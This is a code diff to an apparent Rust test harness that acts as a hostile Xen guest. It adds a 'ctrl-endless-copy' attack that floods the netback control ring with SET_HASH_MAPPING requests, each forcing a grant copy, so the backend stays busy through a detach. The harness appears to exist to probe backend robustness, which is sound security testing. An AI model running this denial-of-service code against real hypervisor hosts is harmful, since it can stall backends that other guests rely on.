@@ -5,7 +5,11 @@
 use crate::attacks::{record_probe, Report};
 use crate::front::{ConnectTweaks, CtrlRing, Frontend, MqLayout, MqRings};
 use crate::Args;
-use netif::wire::{CtrlRequest, SRING_REQ_EVENT_OFFSET, XEN_NETIF_CTRL_RING_SIZE, XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS};
+use netif::wire::{
+    CtrlRequest, SRING_REQ_EVENT_OFFSET, XEN_NETIF_CTRL_HASH_ALGORITHM_TOEPLITZ, XEN_NETIF_CTRL_RING_SIZE,
+    XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, XEN_NETIF_CTRL_TYPE_SET_HASH_ALGORITHM, XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING,
+    XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE,
+};
 use std::path::Path;
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::thread::sleep;
@@ -19,6 +23,10 @@ pub const ATTACKS: &[(&str, &str)] = &[
     ("mq-shared-channel", "2 queues given the same event channel"),
     ("mq-shared-ring", "2 queues given the same TX and RX ring references"),
     ("ctrl-endless", "a control ring kept full of GET_HASH_FLAGS requests, req_prod always ahead, through the detach"),
+    (
+        "ctrl-endless-copy",
+        "as ctrl-endless with SET_HASH_MAPPING requests (a 512-byte grant copy each: longer to drain)",
+    ),
 ];
 
 /// dom0 creates this file in the guest (through its command channel) to end an open-ended
@@ -28,7 +36,7 @@ const STOP_FILE: &str = "/tmp/evil.stop";
 const IDLE_SECONDS: u64 = 6;
 
 pub fn leaves_connection_open(attack: &str) -> bool {
-    attack == "ctrl-endless"
+    attack.starts_with("ctrl-endless")
 }
 
 /// Runs `a.attack` if it is one of ours; returns whether it was.
@@ -36,7 +44,7 @@ pub fn run(fe: &mut Frontend, a: &Args, r: &mut Report) -> bool {
     let layout = match a.attack.as_str() {
         "storm-split-mq" => MqLayout { num_queues: 2, split: true, ctrl: false },
         "mq-shared-channel" | "mq-shared-ring" => MqLayout { num_queues: 2, split: false, ctrl: false },
-        "ctrl-endless" => MqLayout { num_queues: 1, split: false, ctrl: true },
+        "ctrl-endless" | "ctrl-endless-copy" => MqLayout { num_queues: 1, split: false, ctrl: true },
         _ => return false,
     };
     let be = fe.backend.clone();
@@ -89,8 +97,8 @@ pub fn run(fe: &mut Frontend, a: &Args, r: &mut Report) -> bool {
             record_probe(fe, a.handle, r, "probe");
         }
         "storm-split-mq" if connected => storm(fe, &mq, a, r),
-        "ctrl-endless" if connected => match &mq.ctrl {
-            Some(ctrl) => ctrl_endless(fe, ctrl, a, r),
+        "ctrl-endless" | "ctrl-endless-copy" if connected => match &mq.ctrl {
+            Some(ctrl) => ctrl_endless(fe, ctrl, a.attack == "ctrl-endless-copy", a, r),
             None => r.set("error", "no control ring"),
         },
         _ => {}
@@ -160,11 +168,34 @@ fn storm(fe: &mut Frontend, mq: &MqRings, a: &Args, r: &mut Report) {
 /// asked for it) from a second thread, while this one plays netfront's side of a detach
 /// (Closing, then Closed, when the backend goes Closing). Feeding only ends at STOP_FILE or
 /// after `a.seconds`: the backend must not depend on the frontend stopping.
-fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, a: &Args, r: &mut Report) {
+/// With `copy`, every request is a SET_HASH_MAPPING of the whole (128-entry) table from the
+/// data page, which the backend grant-copies: each request costs more, so the backend takes
+/// longer to drain a ring and a short pause of the feeder does not end its loop.
+fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, copy: bool, a: &Args, r: &mut Report) {
     let _ = std::fs::remove_file(STOP_FILE);
-    let req = |idx: u32| CtrlRequest { id: idx as u16, kind: XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, data: [0; 3] };
+    const MAPPING: u32 = 128;
+    let req = |idx: u32| match copy {
+        false => CtrlRequest { id: idx as u16, kind: XEN_NETIF_CTRL_TYPE_GET_HASH_FLAGS, data: [0; 3] },
+        true => CtrlRequest {
+            id: idx as u16,
+            kind: XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING,
+            data: [ctrl.data.gref, MAPPING, 0],
+        },
+    };
+    let setup = |kind: u16, d0: u32| {
+        let idx = ctrl.req_prod();
+        ctrl.request(CtrlRequest { id: idx as u16, kind, data: [d0, 0, 0] }, Duration::from_secs(5))
+            .map_or("none".into(), |p| p.status.to_string())
+    };
+    if copy {
+        // The table is all queue 0 (the data page is zeroed); Toeplitz and a 128-entry table
+        // make SET_HASH_MAPPING valid, so each request is answered after a real copy.
+        r.set("alg_status", setup(XEN_NETIF_CTRL_TYPE_SET_HASH_ALGORITHM, XEN_NETIF_CTRL_HASH_ALGORITHM_TOEPLITZ));
+        r.set("size_status", setup(XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, MAPPING));
+    }
     // One request first: the ring works at all.
-    let first = ctrl.request(req(0), Duration::from_secs(5));
+    let idx = ctrl.req_prod();
+    let first = ctrl.request(req(idx), Duration::from_secs(5));
     r.set("first_status", first.map_or("none".into(), |p| p.status.to_string()));
     let stop = AtomicBool::new(false);
     let (answered, caught_up) = (AtomicU64::new(0), AtomicU64::new(0));
@@ -215,7 +246,8 @@ fn ctrl_endless(fe: &mut Frontend, ctrl: &CtrlRing, a: &Args, r: &mut Report) {
         let mut last_state = Some(4);
         while t0.elapsed() < Duration::from_secs(a.seconds) && !Path::new(STOP_FILE).exists() {
             let st = fe.xs.read_u32(&be_state);
-            if st != last_state {
+            // Once our backend is gone, a fresh vif may get the same handle: leave it alone.
+            if st != last_state && last_state.is_some() {
                 let t = t0.elapsed().as_secs_f64();
                 timeline.push(format!("{:.1}:{}", t, st.map_or("gone".into(), |v| v.to_string())));
                 println!("EVIL t={t:.1} backend state {st:?}");
